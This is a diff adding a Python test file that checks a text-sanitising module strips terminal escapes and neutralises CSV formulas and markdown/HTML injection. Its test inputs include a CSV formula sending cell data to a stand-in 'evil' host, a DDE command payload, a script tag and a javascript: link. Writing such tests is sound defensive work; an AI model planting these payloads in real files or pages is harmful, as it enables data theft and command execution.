@@ -1,0 +1,51 @@
+"""Text from a stranger is harmless where it is written: a terminal, a spreadsheet, a page."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from kdzoo.text import LONGEST, csv_text, markdown_text, one_line
+
+
+@given(st.text())
+def test_one_line_has_no_line_break_control_character_or_mark_of_direction(text: str) -> None:
+    assert one_line(text).isprintable()
+    assert len(one_line(text).splitlines()) <= 1
+
+
+@pytest.mark.parametrize("text", ["\x1b]0;title\x07\x1b[2Jx", "a\u202eb", "line\r\nline\x00", "\ud800"])
+def test_what_steers_a_terminal_is_taken_out(text: str) -> None:
+    assert not set(one_line(text)) & set("\x1b\x07\x00\r\n\u202e\ud800")
+
+
+def test_a_very_long_text_is_cut_with_a_mark() -> None:
+    assert len(one_line("x" * 1_000_000)) == LONGEST
+    assert one_line("x" * 1_000_000).endswith("…")
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\n=1+1", "\t=1"])
+def test_no_cell_of_a_csv_file_is_a_formula(text: str) -> None:
+    written = io.StringIO()
+    csv.writer(written).writerow([csv_text(text)])
+    (row,) = csv.reader(io.StringIO(written.getvalue()))
+    assert row[0][0] not in "=+-@\t\r\n"
+
+
+@pytest.mark.parametrize("text", ["hinton", "at+hinton", "T=4 alpha=0.5", "0.1*ce+0.9*hinton"])
+def test_the_words_of_tables_stay_as_they_are(text: str) -> None:
+    assert csv_text(text) == text
+    assert markdown_text(text) == text
+
+
+@pytest.mark.parametrize(
+    "text", ["<script>alert(1)</script>", "a | b", "[x](javascript:alert(1))", "![](http://evil/p.png)", "a\n\n# head"]
+)
+def test_a_cell_of_a_page_holds_no_html_link_image_heading_or_further_cell(text: str) -> None:
+    cell = markdown_text(text)
+    assert "<" not in cell
+    assert "\n" not in cell
+    for mark in "|[]":
+        assert all(cell[i - 1] == "\\" for i, character in enumerate(cell) if character == mark)
